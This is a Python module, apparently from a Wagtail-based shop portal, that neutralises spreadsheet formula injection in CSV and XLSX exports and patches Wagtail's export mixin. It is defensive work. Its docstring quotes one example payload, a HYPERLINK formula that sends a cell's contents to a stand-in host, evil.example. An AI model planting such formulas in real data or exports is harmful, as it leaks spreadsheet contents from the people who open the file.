"""Spreadsheet cells that a spreadsheet program never runs as a formula (OWASP CSV injection).

A shop name such as ``=HYPERLINK("http://evil.example/?x="&A1,"…")`` is plain text in the
portal, but Excel or LibreOffice evaluate a CSV cell that starts with ``=``, ``+``, ``-``
or ``@`` (and some do after a tab or carriage return) as a formula. Every export of the
back office goes through this module:

- CSV: a text cell starting with one of those characters gets a single quote in front
  (``'=HYPERLINK(…)``), which the programs show as text. A text cell that already starts
  with a quote gets one more, so the rule can be undone exactly (below). A cell that is a
  plain number (``-33.5``, ``+81``) is left as it is: it cannot be a formula.
- XLSX: every text cell is written as a string cell (data type ``s``), never a formula
  (``f``); no quote is added, the cell is shown as typed.

The bulk shop import reads a CSV with the inverse rule (`csv_cell_unescape`): a cell that
starts with a quote followed by one of ``= + - @ '``, tab or carriage return loses that
first quote, and only that one. So export → import gives back exactly the stored text,
and a cell typed by hand keeps its text (a leading quote before anything else is kept).

Wagtail's own ``?export=csv`` / ``xlsx`` of every listing (SpreadsheetExportMixin, used
by every ModelViewSet/SnippetViewSet index, the reports and form submissions) is made to
follow the same rule by `protect_wagtail_spreadsheet_export`, called once at start-up.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_ESCAPED_STARTS = (*FORMULA_STARTS, QUOTE)
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value):
    """`value` safe for a CSV cell: text starting like a formula (or with a quote) gets a
    single quote in front; anything else, numbers included, is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(_ESCAPED_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def csv_cell_unescape(value: str) -> str:
    """The inverse of `csv_cell` for a cell read from a CSV file."""
    if value.startswith(QUOTE) and value[1:2] and value[1] in _ESCAPED_STARTS:
        return value[1:]
    return value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def xlsx_cell(sheet, value):
    """A write-only openpyxl cell for `value`: text is always a string cell."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value)
    if cell.data_type == "f":  # openpyxl takes any text starting with "=" for a formula
        cell.data_type = "s"
    return cell


def protect_wagtail_spreadsheet_export() -> None:
    """Route every CSV cell of Wagtail's SpreadsheetExportMixin through `csv_cell`, and
    make sure no XLSX cell is a formula (Wagtail already turns "f" cells into "s"; this
    keeps it so should a future version not)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_portal_formula_safe", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    generate_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row
    get_heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        value = preprocess(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return csv_cell(value)
        return value

    def generate_xlsx_row_as_strings(self, worksheet, row_dict, date_format=None):
        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            if cell.data_type == "f":
                cell.data_type = "s"
            yield cell

    def heading(self, queryset, field):
        # Headings are labels, not data, but the CSV header row is written from them
        # without preprocessing: the same rule applies.
        return csv_cell(get_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = generate_xlsx_row_as_strings
    SpreadsheetExportMixin.get_heading = heading
    SpreadsheetExportMixin._portal_formula_safe = True
